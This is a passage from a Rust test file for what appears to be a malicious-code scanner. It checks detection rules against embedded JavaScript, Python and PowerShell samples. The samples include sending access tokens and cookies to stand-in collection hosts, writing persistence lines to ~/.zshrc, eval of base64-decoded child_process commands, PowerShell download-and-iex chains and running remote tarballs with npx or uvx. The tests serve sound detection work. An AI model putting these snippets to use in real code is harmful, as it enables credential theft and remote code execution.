        "npx -y mcp-remote https://h.invalid/mcp",
        "uvx mcp-proxy https://h.invalid/sse",
        "npx --yes a@1 https://h.invalid",
    ] {
        assert!(!run(command), "{command}");
    }
    for command in [
        "npx https://h.invalid/a.tgz",
        "npx -y https://h.invalid/a.tgz x",
        "npx -p https://h.invalid/a.tgz tool",
        "uvx --from git+https://h.invalid/a tool",
        "uvx --with x --from https://h.invalid/a.whl tool",
        "pipx run https://h.invalid/a.py",
    ] {
        assert!(run(command), "{command}");
    }
}

#[test]
fn a_plain_function_is_made_out_of_pieces_and_completions_are_installed() {
    use crate::model::Severity;
    let made = |text: &str| {
        let code = format!("import base64\ndef f(g):\n    return eval(base64.b64decode({text}).decode())\nf(1)");
        weight(Language::Python, &code, "flow-decoded-code")
    };
    use base64::Engine as _;
    let encoded = |code: &str| format!("'{}'", base64::engine::general_purpose::STANDARD.encode(code));
    assert_eq!(made(&encoded("lambda v,f0=f[0],f1=f[1]:f0(v) or f1(v)")), Some(Severity::Medium));
    assert!(made(&encoded("lambda v,f0=f[0]:exec(v)")) >= Some(Severity::High));
    assert!(made(&encoded("lambda v:v.system('x')")) >= Some(Severity::High));
    let installs = |line: &str| {
        let code = format!(
            "from pathlib import Path\ndef install():\n    p = Path.home() / '.zshrc'\n    c = ''\n    if p.is_file():\n        c = p.read_text()\n    \
             c += \"\\nfpath+=~/.zfunc; autoload -Uz compinit; compinit\\n\"\n    c += \"\\n{line}\\n\"\n    p.write_text(c)\n"
        );
        weight(Language::Python, &code, "flow-persists") >= Some(Severity::High)
    };
    assert!(!installs("zstyle ':completion:*' menu select"));
    assert!(installs("zstyle -e ':completion:*' x /tmp/x") && installs("fpath+=/tmp/x") && installs("/tmp/x"));
}

#[test]
fn a_bit_of_a_table_is_no_item_of_a_hidden_list() {
    let asks = |test: &str| {
        let code = format!(
            "const t = new Uint16Array(Uint8Array.from(atob('qgpVDlYOVQ6qCg=='), c => c.charCodeAt(0)).buffer);\n\
             const z = Intl.DateTimeFormat().resolvedOptions().timeZone;\nif ({test}) globalThis.x = 1; else globalThis.x = 2;"
        );
        outcome(Language::JavaScript, &code)
            .choices
            .iter()
            .any(crate::analyze::script::covert::Choice::is_by_hidden_list)
    };
    assert!(!asks("(t[z] & n) === 0") && asks("t[0] === z") && asks("(t[z] & 255) === 7"));
}

#[test]
fn a_page_s_own_items_are_not_everything_that_it_keeps() {
    use crate::model::Severity;
    let sent = |reads: &str| {
        let code = format!(
            "const fetched = {reads};\nfetch('https://collect.invalid/x', {{method: 'POST', body: fetched}});\n"
        );
        weight(Language::JavaScript, &code, "flow-stores-sent")
    };
    assert!(sent("localStorage.getItem('mp_' + globalThis.project + '_panel')") <= Some(Severity::Low));
    assert!(sent("localStorage.getItem('mp_' + globalThis.project + '_password')") >= Some(Severity::High));
    assert!(sent("localStorage.getItem('access_token')") >= Some(Severity::High));
    assert!(sent("localStorage.getItem(localStorage.key(0))") >= Some(Severity::High));
    let triggered = |address: &str, reads: &str| {
        let code = format!("fetch('{address}', {{method: 'POST', body: {reads}}});\n");
        let outcome = outcome(Language::JavaScript, &code);
        let flows = flows::judge(&outcome, false);
        let found = flows.iter().find(|f| f.rule.id == "flow-stores-sent").unwrap();
        found.finding(crate::model::Evidence::note("")).stages.has(crate::model::Stage::Trigger)
    };
    let token = "localStorage.getItem('access_token')";
    assert!(!triggered("https://api.service.invalid/token", token));
    assert!(triggered("https://webhook.site/x", token) && triggered("http://203.0.113.9/x", token));
    assert!(triggered("https://api.service.invalid/token", "document.cookie"));
}

#[test]
fn text_is_no_array() {
    let executed = |names: &str| {
        let code = format!(
            "function make(names) {{ var out = [];\n for (var i = 0; i < names.length; i++) {{ var name = names[i], code = '';\n  if (Array.isArray(name)) {{ code = name[1]; name = name[0]; }}\n  out.push('scope.' + name + ' = function () {{' + code + '}}'); }}\n eval(out.join(';')); }}\nmake({names});\n"
        );
        rules(Language::JavaScript, &code).contains(&"flow-decoded-code")
    };
    assert!(!executed("['StopIteration', ['KeyError', 'this.args = 1'], 'Warning']"));
    assert!(executed("[atob('S2V5RXJyb3IgPSAxOyByZXF1aXJlKCJjaGlsZF9wcm9jZXNzIikuZXhlYygiaWQiKTsgeA==')]"));
}

#[test]
fn what_fetches_for_the_script_or_unpacks_starts_nothing() {
    let told = |does: &str| {
        let code = format!(
            "const cp = require('child_process'), fs = require('fs'), https = require('https');
             https.get(process.env.MIRROR + '/tool.zip', r => r.pipe(fs.createWriteStream('/opt/t/tool.zip')).on('finish', () => cp.exec({does})));"
        );
        rules(Language::JavaScript, &code).contains(&"flow-download-run")
    };
    let fetch = "[Net.ServicePointManager]::SecurityProtocol = [Net.SecurityProtocolType]::Tls12; Invoke-WebRequest -URI https://h.invalid/a.zip -UseBasicParsing -OutFile /opt/t/tool.zip";
    assert!(!told(&format!("`powershell \"{fetch}\"`")));
    assert!(!told("'pkgutil --expand-full /opt/t/tool.zip /opt/t/expanded'"));
    assert!(told(&format!("`powershell \"{fetch}; Start-Process /opt/t/tool.zip\"`")));
    // Commands that stand where only a value is meant to.
    assert!(told(&format!("`powershell \"{fetch} -Headers @{{a=iex x}}; /opt/t/tool.zip\"`")));
    assert!(told(&format!("`powershell \"$ProgressPreference = iex /opt/t/tool.zip; {fetch}\"`")));
    assert!(told("`powershell \"iwr https://h.invalid/a -OutFile /opt/t/tool.zip | iex\"`"));
    assert!(told("'/opt/t/tool.zip'"));
}
